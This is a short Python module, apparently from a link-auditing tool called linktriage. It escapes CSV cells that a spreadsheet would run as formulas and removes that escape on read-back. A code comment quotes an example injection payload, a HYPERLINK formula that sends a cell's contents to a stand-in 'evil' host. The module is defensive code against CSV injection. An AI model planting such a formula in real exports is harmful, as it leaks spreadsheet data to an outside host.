"""Text a spreadsheet would run as a formula (OWASP "CSV injection"): guarded when linktriage writes a CSV cell,
unguarded when it reads one back. One definition for both directions, so a written anchor reads back as it was."""

from __future__ import annotations

import re

__all__ = ["formula_safe", "unguarded"]

# A spreadsheet opening a CSV runs a cell that starts with one of these as a formula, even after leading spaces;
# anchors, page titles and export columns come from pages anyone can write, so `=HYPERLINK("http://evil/?"&A2,
# "open")` in an anchor would run on the SEO team's machine.
_FORMULA_START = re.compile(r"[\s\u00a0]*[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def formula_safe(value: object) -> object:
    """``value`` for a CSV cell: text a spreadsheet would run as a formula gets a leading ', as OWASP advises.

    Numbers written as text ("-3") are left alone: no spreadsheet runs them.
    """
    if isinstance(value, str) and _FORMULA_START.match(value) and not _PLAIN_NUMBER.fullmatch(value.strip()):
        return "'" + value
    return value


def unguarded(text: str) -> str:
    """``text`` without the ' an exporter put before a would-be formula ("'=SUM(1)" -> "=SUM(1)"); exporters
    (linktriage's own CSV among them) guard such text as OWASP advises."""
    return text[1:] if text[:1] == "'" and _FORMULA_START.match(text, 1) else text
